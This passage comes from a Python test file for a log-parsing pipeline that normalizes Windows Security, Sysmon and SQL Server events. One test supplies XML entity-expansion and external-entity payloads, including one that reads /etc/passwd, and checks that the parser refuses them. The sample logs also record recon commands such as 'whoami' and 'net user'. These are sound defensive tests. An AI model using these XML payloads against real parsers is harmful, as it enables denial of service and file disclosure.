    '  <Data Name="IpAddress">10.20.30.40</Data>\r\n'
    '  <Data Name="IpPort">49811</Data>\r\n'
    '  <Data Name="Note">a &amp; b &lt;c&gt; &#x41;</Data>\r\n'
    '</EventData>')


def test_azure_security_event_with_xml_event_data() -> None:
    event = winlog_event({**AZURE_ROW, "EventID": 4624, "EventData": AZURE_4624_XML,
                          "Activity": "4624 - An account was successfully logged on.",
                          "Account": "SOTTTT\\nam", "AccountType": "User"})
    assert event == {
        "@timestamp": "2026-11-24T01:15:30.500Z", "winlog.channel": "Security",
        "winlog.provider_name": "Microsoft-Windows-Security-Auditing", "winlog.event_id": 4624,
        "winlog.computer_name": "PC-KETOAN", "host.name": "PC-KETOAN",
        "log.level": "information", "event.code": "4624", "event.kind": "event",
        "event.provider": "Microsoft-Windows-Security-Auditing", "event.module": "security",
        "event.dataset": "windows.security",
        "winlog.event_data.SubjectUserSid": "S-1-5-18",
        "winlog.event_data.SubjectLogonId": "0x3e7",
        "winlog.event_data.TargetUserName": "nam",
        "winlog.event_data.TargetDomainName": "SOTTTT",
        "winlog.event_data.TargetLogonId": "0x1a2b3c", "winlog.event_data.LogonType": "3",
        "winlog.event_data.LogonProcessName": "NtLmSsp ",
        "winlog.event_data.WorkstationName": "",
        "winlog.event_data.IpAddress": "10.20.30.40", "winlog.event_data.IpPort": "49811",
        "winlog.event_data.Note": "a & b <c> A",
        "winlog.logon.id": ["0x3e7", "0x1a2b3c"], "source.domain": "",
        "source.ip": "10.20.30.40", "source.port": 49811,
        # the account that logged on (the row has no TargetUserSid, so no user.id)
        "user.name": "nam", "user.domain": "SOTTTT", "winlog.logon.type": "Network",
        "related.user": ["nam"], "related.ip": ["10.20.30.40"],
    }


def test_azure_windows_event_with_json_event_data() -> None:
    data = {"RuleName": "-", "ProcessId": "4242", "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd.exe /c whoami", "OriginalFileName": "Cmd.Exe"}
    event = winlog_event({
        "TimeGenerated": "2026-11-24T01:15:30.123Z", "Computer": "PC-KETOAN",
        "Provider": "Microsoft-Windows-Sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventLevel": 4, "EventLevelName": "Information", "EventID": 1, "Type": "WindowsEvent",
        "EventData": json.dumps(data)})
    assert event["event.dataset"] == "windows.sysmon_operational"
    assert event["winlog.event_data.CommandLine"] == "cmd.exe /c whoami"
    assert (event["process.pid"], event["process.command_line"]) == (4242, "cmd.exe /c whoami")
    assert event["process.pe.original_file_name"] == "Cmd.Exe"
    assert event["log.level"] == "information"


def test_azure_security_event_without_event_data_takes_the_columns() -> None:
    event = winlog_event({**AZURE_ROW, "EventID": 4688, "Account": "SOTTTT\\nam",
                          "AccountType": "User", "SubjectAccount": "SOTTTT\\nam",
                          "Process": "net.exe", "NewProcessId": "0x1fc",
                          "NewProcessName": "C:\\Windows\\System32\\net.exe",
                          "CommandLine": "net user", "SubjectUserName": "nam"})
    data = {k: v for k, v in event.items() if k.startswith("winlog.event_data.")}
    assert data == {"winlog.event_data.NewProcessId": "0x1fc",
                    "winlog.event_data.NewProcessName": "C:\\Windows\\System32\\net.exe",
                    "winlog.event_data.CommandLine": "net user",
                    "winlog.event_data.SubjectUserName": "nam"}
    assert (event["process.pid"], event["process.command_line"]) == (508, "net user")


def test_azure_xml_unnamed_data_and_declaration() -> None:
    xml = ('<?xml version="1.0" encoding="utf-16"?><DataItem type="System.XmlData">'
           '<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">'
           '<Data>sa</Data><Data> Reason: Password did not match.</Data>'
           '<Binary>18480000</Binary></EventData></DataItem>')
    event = winlog_event({"TimeGenerated": "2026-11-24T01:15:30Z", "Type": "Event",
                          "EventLog": "Application", "Source": "MSSQLSERVER",
                          "EventID": 18456, "Computer": "db01", "EventData": xml})
    assert {k: v for k, v in event.items() if k.startswith("winlog.event_data.")} == {
        "winlog.event_data.param1": "sa",
        "winlog.event_data.param2": " Reason: Password did not match.",
        "winlog.event_data.Data": ["sa", " Reason: Password did not match."],
        "winlog.event_data.Binary": "18480000",
    }
    assert (event["winlog.channel"], event["winlog.provider_name"]) == ("Application",
                                                                         "MSSQLSERVER")


@pytest.mark.parametrize(("xml", "reason"), [
    # an entity declared and expanded a billion times, or read from a file: never expanded
    ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
     '<EventData><Data Name="x">&lol2;</Data></EventData>', "not well-formed XML"),
    ('<EventData><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
     '<Data Name="x">&e;</Data></EventData>', "not well-formed XML"),
    ('<EventData><Data Name="x">&e;</Data></EventData>', "not well-formed XML"),
    ("<EventData><Data Name='x'>cut", "not well-formed XML"),
    ("<System/>", "no <EventData> element"),
])
def test_azure_xml_with_entities_or_damage_is_refused(xml: str, reason: str) -> None:
    with pytest.raises(ParseError, match=reason):
        winlog_event({**AZURE_ROW, "EventID": 4624, "EventData": xml})


def test_auto_detection_gives_windows_lines_to_winlog_not_generic_json() -> None:
    # Before: jsonl (priority 10, a carrier) came before winlog (20), so NXLog and Log Analytics
    # lines became generic "json" events and no Windows rule could see them.
    from soc.pipeline.parsing import get_parser

    auto = get_parser("auto")
    ctx = ParseContext(tz=UTC, now=datetime(2026, 11, 24, tzinfo=UTC))
    lines = [json.dumps({**AZURE_ROW, "EventID": 4624, "EventData": AZURE_4624_XML}),
             json.dumps({"EventTime": "2026-11-24 08:15:30", "EventID": 4688,
                         "SourceName": "Microsoft-Windows-Security-Auditing",
                         "Channel": "Security", "NewProcessName": "C:\\x.exe"}),
             '{"@timestamp": "2026-11-24T01:15:30Z", "message": "not windows"}',
             json.dumps(SYSMON_1)]
    assert [auto.parse(line, ctx)["event.dataset"] for line in lines] == [
        "windows.security", "windows.security", "json", "windows.sysmon_operational"]


def test_records_of_one_layout_keep_their_own_values() -> None:
    # the field plan is cached per (channel, event id, EventData names): values must not leak
    data = SYSMON_1["Event"]["EventData"]
    other = {**data, "ProcessId": "0x10", "Image": "C:\\other.exe", "CommandLine": None,
             "User": ["a", "b"], "TerminalSessionId": True}
    record = _record("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, 5002,
                     guid=SYSMON_GUID, data=other)
    first, second, again = (winlog_event(SYSMON_1), winlog_event(record),
                            winlog_event(SYSMON_1))
    assert first == again == EXPECTED_SYSMON_1
    assert (second["process.pid"], second["process.executable"]) == (16, "C:\\other.exe")
    assert "winlog.event_data.CommandLine" not in second and "process.command_line" not in second
    assert second["winlog.event_data.User"] == ["a", "b"] and "user.name" not in second
    assert second["winlog.event_data.TerminalSessionId"] == "true"
    reordered = _record("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
                        5001, guid=SYSMON_GUID, user="S-1-5-18", level=4,
                        keywords="0x8000000000000000", data=dict(reversed(data.items())))
    assert winlog_event(reordered) == EXPECTED_SYSMON_1
